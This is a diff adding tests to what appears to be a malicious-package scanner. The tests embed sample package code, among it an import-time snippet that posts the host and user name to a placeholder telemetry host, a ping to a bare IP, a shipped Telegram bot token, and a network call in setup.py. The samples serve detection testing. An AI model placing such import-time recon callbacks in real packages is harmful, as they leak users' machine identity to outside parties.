@@ -211,3 +211,75 @@ def report_usage():
         make_wheel(tmp_path / "ok", name="envconf", files={"envconf/telemetry.py": telemetry})
     )
     assert not ok.threats and ok.risk.level in ("low", "medium")
+
+
+def test_telemetry_sending_the_platform_at_import_is_information(tmp_path):
+    """A telemetry client pinging its collector at import with the OS and Python version names
+    no host or person: medium at most. The same import-time send with the host and user name
+    is a recon callback, and stays high."""
+    telemetry = b"""import platform, sys, requests
+
+_event = {"os": platform.platform(), "python": sys.version, "arch": platform.machine()}
+requests.post("https://telemetry.example.invalid/v1/event", json=_event, timeout=2)
+"""
+    recon = b"""import getpass, socket, requests
+
+_info = {"host": socket.gethostname(), "user": getpass.getuser()}
+requests.post("https://telemetry.example.invalid/v1/event", json=_info, timeout=2)
+"""
+    ok = scan(make_wheel(tmp_path, name="usagestats", files={"usagestats/__init__.py": telemetry}))
+    assert not ok.threats and ok.risk.level in ("low", "medium"), [t.to_json() for t in ok.threats]
+    assert "collect.sysinfo" in {h.capability for h in ok.findings}  # still shown as a fact
+    (tmp_path / "bad").mkdir()
+    bad = scan(
+        make_wheel(tmp_path / "bad", name="usagestats", files={"usagestats/__init__.py": recon})
+    )
+    assert {"place.import_time", "chain.exfiltration"} <= threat_ids(bad)
+    assert bad.risk.level in ("high", "critical")
+
+
+def test_a_plain_request_at_import_is_a_place_only_beside_an_endpoint_or_collected_data(tmp_path):
+    """A version check at import sends nothing: information. Beside a hard-coded bare-IP
+    address, or with the host name collected in the same module, the import-time request is a
+    place."""
+    check = b"""import requests
+
+_latest = requests.get("https://pypi.example.invalid/pypi/mytool/json", timeout=2).json()
+"""
+    beside_ip = check + b'_ping = requests.get("http://192.0.2.7/c", timeout=2)\n'
+    beside_host = b"""import socket, requests
+
+_me = socket.gethostname()
+_latest = requests.get("https://pypi.example.invalid/pypi/mytool/json", timeout=2).json()
+"""
+    for i, (code, alarming) in enumerate([(check, False), (beside_ip, True), (beside_host, True)]):
+        (tmp_path / str(i)).mkdir()
+        result = scan(
+            make_wheel(tmp_path / str(i), name="mytool", files={"mytool/__init__.py": code})
+        )
+        assert (result.risk.level in ("high", "critical")) is alarming, (i, result.risk)
+        assert ("place.import_time" in threat_ids(result)) is alarming, i
+
+
+def test_a_shipped_telegram_bot_token_is_an_exfiltration_endpoint(tmp_path):
+    """A remote-control bot started at import: its requests send nothing collected, but the
+    bot token a package ships is a channel out to someone, like a webhook."""
+    token = b"1234567890:AA" + b"x" * 33
+    code = (
+        b'import telebot\nBOT_TOKEN = "' + token + b'"\nbot = telebot.TeleBot(BOT_TOKEN)\n'
+        b"def handle(m):\n    bot.send_message(m.chat.id, 'ok')\n"
+    )
+    result = scan(make_wheel(tmp_path, name="quotes-lib", files={"quotes_lib/__init__.py": code}))
+    assert "chain.exfil_endpoint" in threat_ids(result)
+    assert result.risk.level in ("high", "critical")
+
+
+def test_a_plain_request_in_setup_py_stays_an_install_time_place(tmp_path):
+    code = b"""import requests
+from setuptools import setup
+requests.get("https://pypi.example.invalid/simple/", timeout=2)
+setup(name="buildhelper", version="1.0")
+"""
+    result = scan(make_sdist(tmp_path, name="buildhelper", files={"setup.py": code}))
+    assert "place.install_time" in threat_ids(result)
+    assert result.risk.level in ("high", "critical")
